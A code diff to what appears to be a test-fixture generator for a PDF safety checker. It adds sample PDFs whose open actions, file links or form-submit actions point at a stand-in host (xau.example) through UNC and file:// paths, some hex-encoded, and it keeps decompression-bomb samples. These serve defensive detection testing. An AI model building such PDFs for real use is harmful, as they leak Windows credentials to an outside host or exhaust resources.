@@ -20,6 +20,7 @@ def rows() -> Iterator[tuple[str, bytes, str, str]]:
     yield from _usable()
     yield from _broken()
     yield from _active()
+    yield from _pointing()
     yield from _bombs()
 
 
@@ -105,6 +106,42 @@ def _active_by_reference() -> Iterator[tuple[str, bytes, str, str]]:
     yield "carries-script-by-reference.pdf", pdf(named, b"(hoadon.vbs)", stream(b"x=1")), PDF, "active_content"
 
 
+def _pointing() -> Iterator[tuple[str, bytes, str, str]]:
+    """At another file, which may be on another computer: there Windows logs in, and gives away the password."""
+    for name, target in (
+        ("beside", b"(phu-luc.pdf)"),
+        ("below", b"(phu luc/1.pdf)"),
+        ("own-disk", b"(/c/giay-to/1.pdf)"),
+        ("own-drive", b"(C:\\\\giay-to\\\\1.pdf)"),
+        ("specified", b"<</Type/Filespec/F(phu-luc.pdf)/UF(phu-luc.pdf)>>"),
+        ("nothing", b"null"),
+    ):
+        yield f"points-{name}.pdf", _opening(target), PDF, ""
+    yield "flags.pdf", pdf(b"<</Type/Annot/Subtype/Link/F 4/Rect[0 0 9 9]>>"), PDF, ""
+    yield "carries-odd-name.pdf", pdf(b"<</F(hoadon\x9f.exe)/EF<</F 5 0 R>>>>", stream(b"x")), PDF, "active_content"
+    host = b"(\\\\\\\\xau.example\\\\x)"
+    for name, target in (
+        ("host", host),
+        ("slashes", b"(//xau.example/x.pdf)"),
+        ("mixed", b"( \\\\/xau.example/x.pdf)"),
+        ("address", b"(file://xau.example/x.pdf)"),
+        ("coded", b"<feff005c005c00780061>"),
+        ("hex", b"<5c5c9f9f>"),
+        ("specified", b"<</F(a.pdf)/UF%s>>" % host),
+        ("specified-old", b"<</Type/F/DOS%s>>" % host),
+        ("elsewhere", b"5 0 R"),
+    ):
+        yield f"points-to-{name}.pdf", _opening(target, b"<</Type/Filespec/F 6 0 R>>", host), PDF, "active_content"
+    sent = b"<</S/SubmitForm/F<</FS/URL/F%s>>>>" % host
+    yield "sends-to-host.pdf", pdf(sent), PDF, "active_content"
+    yield "stream-of-host.pdf", pdf(stream(b"", b"/F%s" % host)), PDF, "active_content"
+
+
+def _opening(target: bytes, *more: bytes) -> bytes:
+    """On opening it, one goes to this file."""
+    return pdf(b"<</S/GoToR/D[0/Fit]/F %s>>" % target, *more, catalogue=b"/OpenAction 4 0 R")
+
+
 def _bombs() -> Iterator[tuple[str, bytes, str, str]]:
     once = zeros(300)
     entries = b"/Subtype/Image/Width 60000/Height 60000/Filter/JBIG2Decode"
@@ -114,7 +151,6 @@ def _bombs() -> Iterator[tuple[str, bytes, str, str]]:
     yield "unfolds.pdf", pdf(stream(once, b"/Filter/FlateDecode")), PDF, "bomb"
     yield "unfolds-often.pdf", pdf(*[stream(zeros(200), b"/Filter/FlateDecode")] * 3), PDF, "bomb"
     yield "unfolds-twice.pdf", pdf(deflated(once).replace(b"/FlateDecode", b"[/FlateDecode/Fl]")), PDF, "bomb"
-    yield "unfolds-lzw.pdf", pdf(stream(b"\x80" * 400_000, b"/Filter/LZWDecode")), PDF, "bomb"
     yield "huge-picture.pdf", pdf(stream(b"\0", entries)), PDF, "bomb"
     yield "pages.pdf", pdf(pages=2_001), PDF, "bomb"
     yield "objects.pdf", pdf(*[b"0"] * 60_001), PDF, "bomb"
